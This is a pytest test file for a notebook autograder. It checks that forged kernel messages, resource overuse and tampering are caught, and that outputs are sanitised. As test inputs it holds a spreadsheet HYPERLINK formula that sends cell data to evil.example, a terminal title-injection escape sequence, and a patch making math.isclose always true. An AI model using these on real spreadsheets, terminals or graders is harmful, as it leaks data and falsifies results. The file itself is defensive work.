"""The grader's side of a run, against a child that says whatever a submission could make it say."""

import csv
import json
import socket
from collections.abc import Callable, Iterator
from time import monotonic
from typing import Any

import pytest
from nbformat.v4 import new_code_cell, new_notebook
from traitlets.config import Config

from oxus.grader import conversation, execute
from oxus.grader.budget import SETTINGS, Limits, reached
from oxus.grader.execute import PipedExecute
from oxus.grader.outcomes import Journal, Outcome, table, write_summary
from oxus.grader.pipe import Pipe
from oxus.grader.run import Run
from oxus.grader.second_opinion import Asked, Call, question

FORMULA = '=HYPERLINK("http://evil.example/?"&A2&C2,"click")'
TITLE = "\x1b]0;owned\x07\u202e"


class Child:
    """Answers each request by what `answers` makes of it: messages in a row."""

    def __init__(
        self, answers: Callable[[dict[str, Any]], Iterator[dict[str, Any]]], limits: Limits | None = None
    ) -> None:
        mine, theirs = socket.socketpair()
        self.limits = limits or Limits()
        self.theirs, self.answers, self.tokens = Pipe(theirs), answers, iter(())
        self.pipe = Answering(mine, self)

    def hear(self) -> None:
        request = self.theirs.receive()
        if "tokens" in request:
            self.tokens = iter(request["tokens"][1:])
            return
        for message in self.answers(request):
            self.theirs.send(message)

    def reply(self, request: dict[str, Any], **more: Any) -> dict[str, Any]:
        """An honest reply."""
        content = {"status": "ok", "payload": [], "execution_count": 1}
        said = {"reply": content, "id": request["id"], "token": next(self.tokens), "cpu": 0.1}
        return said | {"tampered": [], "failed": False} | more

    def interrupt(self) -> None:
        pass

    def overused(self) -> str:
        return ""

    def end(self) -> None:
        self.pipe.close()
        self.theirs.close()


class Answering(Pipe):
    """The grader's end: the child answers as soon as something is sent."""

    def __init__(self, end: socket.socket, child: Child) -> None:
        super().__init__(end)
        self.child = child

    def send(self, message: dict[str, Any]) -> None:
        super().send(message)
        self.child.hear()


def run(child: Child, cells: int = 1, **settings: Any) -> Run:
    notebook = new_notebook(cells=[new_code_cell(f"x = {n}") for n in range(cells)])
    done = PipedExecute(config=Config(PipedExecute=settings)).run(notebook, child)
    child.end()
    return done


@pytest.mark.parametrize(
    ("ended", "reason"),
    [
        (-9, "Python was killed (SIGKILL) in the middle of a cell"),
        (3, "Python ended by itself (exit status 3) in the middle of a cell"),
        (FORMULA, "the submission sent forged messages to the grader"),
        (TITLE, "the submission sent forged messages to the grader"),
        (-99, "the submission sent forged messages to the grader"),
        (10**400, "the submission sent forged messages to the grader"),
        ([1], "the submission sent forged messages to the grader"),
    ],
)
def test_a_submission_cannot_word_the_reason_for_its_end(ended, reason):
    assert run(Child(lambda _: iter([{"ended": ended, "reason": FORMULA}]))).stopped == reason


@pytest.mark.parametrize("failed", [False, True])
def test_only_an_exercise_whose_tests_passed_is_asked_again(failed):
    asked: list[str] = []
    grader = {"schema_version": 3, "grade": True, "solution": False, "locked": True, "points": 1}
    cells = [new_code_cell(n, metadata={"nbgrader": grader | {"grade_id": n}}) for n in ("test_a", "test_b")]

    def answers(request):
        error = {"status": "error", "ename": "AssertionError", "evalue": "", "traceback": []}
        asked.append(request["source"])
        wrong = (
            request["source"] == "test_a" and failed or request["source"].startswith("assert")
        )  # the canary
        yield child.reply(request, **({"reply": error} if wrong else {}))

    child = Child(answers)
    call = Call(("double", [2], {"dict": []}, None), 4, "double(2)")
    plan = {"double": Asked(("test_a", "test_b"), (call,))}
    PipedExecute().run(new_notebook(cells=cells), child, plan=plan)
    child.end()
    assert [source == question([call]) for source in asked[3:]] == ([] if failed else [True])


def test_what_a_submission_changed_is_named_without_control_characters():
    child = Child(lambda request: iter([child.reply(request, tampered=[TITLE, "a\nb" * 99])]))
    first, second = run(child).tampered
    assert first == "?]0;owned??" and len(second) < 110 and second.isprintable()


def test_outcomes_hold_no_formula_for_a_spreadsheet_and_no_control_characters_for_a_terminal(tmp_path):
    outcomes = [
        Outcome("aigerim", "stopped", 2.0, 5.0, reason=FORMULA, remarks=(TITLE,)),
        Outcome("bek", score=-1.0),
    ]
    path, data = write_summary(outcomes, tmp_path / "08-unit")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert rows[0]["reason"] == f"'{FORMULA}" and rows[1]["score"] == "-1.0", "a number is not text"
    assert json.loads(data.read_text(encoding="utf-8"))[0]["reason"] == FORMULA
    assert all(line.isprintable() for line in table(outcomes).split("\n"))


def test_a_journal_of_0_2_0_with_control_characters_does_not_reach_the_terminal(tmp_path):
    path = tmp_path / "08-unit.jsonl"
    path.write_text(
        json.dumps({"student": "aigerim", "outcome": "stopped", "reason": TITLE}) + "\n", encoding="utf-8"
    )
    entry = Journal(path).entries["aigerim"]
    assert all(
        line.isprintable()
        for line in table([Outcome(entry.student, entry.outcome, reason=entry.reason)]).split("\n")
    )


# --- the time that all cells take together ---


@pytest.fixture
def clock(monkeypatch):
    """A clock that only the test moves."""

    class Clock:
        now = monotonic()

    monkeypatch.setattr(conversation, "monotonic", lambda: Clock.now)
    return Clock


def test_many_cells_that_each_keep_to_the_limit_of_a_cell_reach_that_of_the_notebook(clock):
    ran = []

    def answers(request):
        ran.append(request["source"])
        clock.now += 700
        yield child.reply(request)

    child = Child(answers)
    done = run(child, cells=6)
    assert done.stopped == reached("seconds", Limits())
    assert ran == ["x = 0", "x = 1", "x = 2"]


def test_the_limit_of_the_notebook_is_a_setting(clock):
    def answers(request):
        clock.now += 700
        yield child.reply(request)

    child = Child(answers, Limits(seconds=10_000))
    assert run(child, cells=6).stopped == ""
    child = Child(answers, Limits(seconds=60))
    assert run(child, cells=2).stopped == (
        "its cells ran for more than 60 seconds together (the limit seconds of the class)"
    )


def test_a_cell_that_never_ends_is_stopped_at_the_limit_of_the_notebook(clock, monkeypatch):
    """It keeps showing something, and the clock goes on with each message."""
    shown = {"msg_type": "stream", "content": {"name": "stdout", "text": "."}, "buffers": []}

    def answers(request):
        for _ in range(100):
            yield shown | {"parent_header": {"msg_id": request["id"]}}

    def later() -> float:
        clock.now += 50
        return clock.now

    monkeypatch.setattr(conversation, "monotonic", later)
    assert run(Child(answers), timeout=100_000).stopped == reached("seconds", Limits())


# --- the other limits of the whole submission ---


def printing(child_of: list[Child], text: str, times: int = 1):
    """Answers that show a text and then reply honestly."""

    def answers(request):
        for _ in range(times):
            shown = {"msg_type": "stream", "content": {"name": "stdout", "text": text}, "buffers": []}
            yield shown | {"parent_header": {"msg_id": request["id"]}}
        yield child_of[0].reply(request)

    return answers


def run_printing(limits: Limits, cells: int, text: str, times: int = 1) -> Run:
    child_of: list[Child] = []
    child_of.append(Child(printing(child_of, text, times), limits))
    return run(child_of[0], cells)


def test_output_counts_over_all_cells():
    limits = Limits(output=100_000)
    assert run_printing(limits, 3, "x" * 20_000).stopped == ""
    assert run_printing(limits, 9, "x" * 20_000).stopped == (
        "it printed or showed more than 0.1 MB (the limit output_mb of the class)"
    )


def test_messages_count_over_all_cells():
    limits = Limits(messages=50)
    assert run_printing(limits, 3, "x", 10).stopped == ""
    assert run_printing(limits, 9, "x", 10).stopped == reached("messages", limits)


def test_short_cells_are_looked_at_too_but_seldom(clock):
    looked = []

    def answers(request):
        clock.now += 0.2
        yield child.reply(request)

    child = Child(answers)
    child.overused = lambda: looked.append(clock.now) or ""
    assert run(child, cells=45).stopped == ""
    assert 3 <= len(looked) <= 5


def test_a_child_that_stops_reading_stops_its_own_run_only():
    """The request is larger than what the kernel holds for a reader who is not there."""
    child = Child(lambda request: iter([child.reply(request)]))
    child.pipe.patience = 0.05
    child.pipe.send = lambda message: Pipe.send(child.pipe, message)  # nobody answers
    notebook = new_notebook(cells=[new_code_cell("x = 1\n" * 1_000_000)])
    done = PipedExecute().run(notebook, child)
    child.end()
    assert done.stopped == "Python no longer read what the grader sent"


@pytest.mark.parametrize(
    ("name", "text", "setting"),
    [
        ("OSError", "[Errno 28] No space left on device: 'a'", "disk_mb"),
        ("OSError", "[Errno 27] File too large", "disk_mb"),
        ("MemoryError", "", "memory_mb"),
        ("_ArrayMemoryError", "Unable to allocate 7.28 TiB", "memory_mb"),
        ("RuntimeError", "can't start new thread", "processes"),
        ("BlockingIOError", "[Errno 11] Resource temporarily unavailable", "processes"),
    ],
)
def test_an_error_at_a_limit_of_the_sandbox_names_it(name, text, setting):
    error = {"status": "error", "ename": name, "evalue": text, "traceback": []}
    child = Child(lambda request: iter([child.reply(request, reply=error)]))
    (note,) = run(child).notes
    assert name in note and setting in note and setting in SETTINGS


def test_large_outputs_are_cut_as_soon_as_their_cell_has_run(monkeypatch):
    monkeypatch.setattr(execute, "LARGE", 10_000)
    held = []

    def cut(cell) -> None:
        held.append(cell.outputs[0].text)
        cell.outputs = []

    child_of: list[Child] = []
    child_of.append(Child(printing(child_of, "x" * 20_000)))
    notebook = new_notebook(cells=[new_code_cell(f"x = {n}") for n in range(3)])
    answers, seen = child_of[0].answers, []

    def counted(request):
        seen.append(sum(bool(cell.outputs) for cell in notebook.cells))
        return answers(request)

    child_of[0].answers = counted
    PipedExecute().run(notebook, child_of[0], cut)
    child_of[0].end()
    assert seen == [0, 0, 0] and len(held) == 3


def test_code_that_is_graded_by_hand_is_the_student_s_and_not_a_test():
    """What it changes in a library is not allowed as what a test of the instructor changes would be."""
    requests: list[dict[str, Any]] = []

    def answers(request):
        requests.append(request)
        yield child.reply(request)

    child = Child(answers)
    changes = "import math\nmath.isclose = lambda *a, **k: True"
    notebook = new_notebook(cells=[new_code_cell(changes), new_code_cell(changes)])
    for cell, solution in zip(notebook.cells, (True, False), strict=True):
        cell.metadata["nbgrader"] = {
            "grade_id": "by-hand" if solution else "test",
            "grade": True,
            "solution": solution,
            "locked": not solution,
            "points": 1,
            "schema_version": 3,
            "cell_type": "code",
        }
    PipedExecute().run(notebook, child)
    assert [(bool(request["own"]), request["test"]) for request in requests[:2]] == [
        (False, False),
        (True, True),
    ]
    child.end()
